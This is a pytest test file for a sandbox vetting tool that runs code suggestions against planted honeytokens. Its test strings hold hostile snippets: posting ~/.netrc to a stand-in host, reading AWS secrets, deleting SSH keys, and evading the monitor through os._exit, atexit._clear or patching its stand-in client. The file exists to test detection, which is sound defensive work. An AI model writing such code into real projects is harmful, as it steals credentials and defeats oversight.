"""Micro-execution and honeytokens, end to end: suggestions that are function bodies placed in their
documents, vetted by the pipeline on both backends, and the ways a suggestion could dodge the
exercise or the honeytokens. The labelled corpus is vetted in test_exercise_corpus.py."""

from __future__ import annotations

import dataclasses
import textwrap

import pytest

from sandgate.findings import Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion
from tests.sandbox.exercise_corpus import MALICIOUS as CORPUS_MALICIOUS
from tests.sandbox.exercise_corpus import SERVICE

DOC = SERVICE
# The first cases of the corpus (tests/sandbox/exercise_corpus.py), which the tests below name.
MALICIOUS = [(c.name, c.snippet, c.expected) for c in CORPUS_MALICIOUS[:8]]


@pytest.fixture(scope="module", params=["docker", "bwrap"])
def vetter(request):
    # These tests are about what the run sees. Balanced's capability rules would block most of
    # these suggestions before they run (tests/core/test_capabilities.py), so they are left out.
    loaded = load_effective(None, preset="balanced")
    rules = tuple(r for r in loaded.policy.rules if r.source != "capability")
    v = Vetter(
        dataclasses.replace(loaded, policy=dataclasses.replace(loaded.policy, rules=rules)), backend=request.param
    )
    backend, probes = v.backend()
    assert backend is not None and backend.name == request.param, probes
    v.warm()
    return v


def vet(vetter, snippet: str):
    text = textwrap.dedent(snippet).lstrip("\n") if not snippet.startswith("\n    ") else snippet.lstrip("\n")
    lines = DOC.count("\n")
    return vetter.vet(Suggestion(text, document=DOC, line=lines, character=0, path="svc.py"))


def test_findings_name_the_function_and_line(vetter):
    result = vet(vetter, MALICIOUS[0][1])
    leak = next(f for f in result.findings if f.rule == "secret.exfiltration")
    assert "upload_report()" in leak.message and "httpx.post" in leak.message
    assert leak.line == DOC.count("\n") + 3  # the httpx.post line of the suggestion
    read = next(f for f in result.findings if f.rule == "secret.honeytoken-read")
    assert read.detail("token") == "~/.aws/credentials"


def test_honeytoken_in_a_name_lookup_is_exfiltration(vetter):
    result = vet(vetter, MALICIOUS[2][1])
    leak = [f for f in result.findings if f.rule == "secret.exfiltration"]
    assert leak and "name look-up" in leak[0].message and "health_ping()" in leak[0].message


def test_the_standard_librarys_own_environment_reads_are_not_the_programs(vetter):
    """urllib looks for proxy settings by walking os.environ (through frozen `os` and
    `_collections_abc` frames in Python 3.11+): not a read of the planted secrets. A read the
    suggestion's own function makes still is."""
    result = vet(
        vetter,
        """
def proxies_in_use() -> dict:
    import urllib.request

    return urllib.request.getproxies()
""",
    )
    assert not [f for f in result.findings if f.rule == "secret.honeytoken-read"], result.findings
    own = vet(
        vetter,
        """
def deploy_key() -> str:
    import os

    return os.environ.get("AWS_SECRET_ACCESS_KEY", "")
""",
    )
    assert [f.detail("token") for f in own.findings if f.rule == "secret.honeytoken-read"] == ["$AWS_SECRET_ACCESS_KEY"]


def test_exiting_from_the_exercise_is_held(vetter):
    result = vet(
        vetter,
        """
def quiet() -> None:
    os._exit(0)
""",
    )
    assert result.verdict is Verdict.BLOCK
    assert "monitor.tampered" in {f.rule for f in result.findings}


def test_switching_the_exercise_off_is_held(vetter):
    # The module body stops the process before the exercise with a clean exit of its own.
    result = vet(
        vetter,
        """
def steal() -> None:
    requests.post("https://x.example.net", data=open(os.path.expanduser("~/.netrc")).read())

import sys, atexit
atexit._clear()
sys.exit(0)
""",
    )
    rules = {f.rule for f in result.findings}
    assert result.verdict is Verdict.BLOCK, rules
    assert "secret.exfiltration" in rules  # the exercise still ran after the module's SystemExit


def test_deleting_or_rewriting_honeyfiles_is_seen(vetter):
    result = vet(
        vetter,
        """
def tidy() -> None:
    home = os.path.expanduser("~")
    open(home + "/.aws/credentials", "w").write("[default]\\n")
    os.unlink(home + "/.ssh/id_rsa")
""",
    )
    paths = {f.detail("path") for f in result.findings if f.rule == "fs.write-outside-scratch"}
    assert {"/home/sandbox/.aws/credentials", "/home/sandbox/.ssh/id_rsa"} <= paths
    assert result.verdict is Verdict.BLOCK


def test_patching_the_stand_ins_does_not_hide_the_record(vetter):
    # The code reaches the stand-in class through its argument and blinds it; the read of the
    # honeyfile is still recorded by the supervisor.
    result = vet(
        vetter,
        """
def sneaky(client) -> None:
    type(client).__call__ = lambda *a, **k: None
    data = open(os.path.expanduser("~/.docker/config.json")).read()
    client.send(data)
""",
    )
    rules = {f.rule for f in result.findings}
    assert "secret.honeytoken-read" in rules and "fs.read-outside-workspace" in rules
    assert result.verdict is Verdict.REVIEW
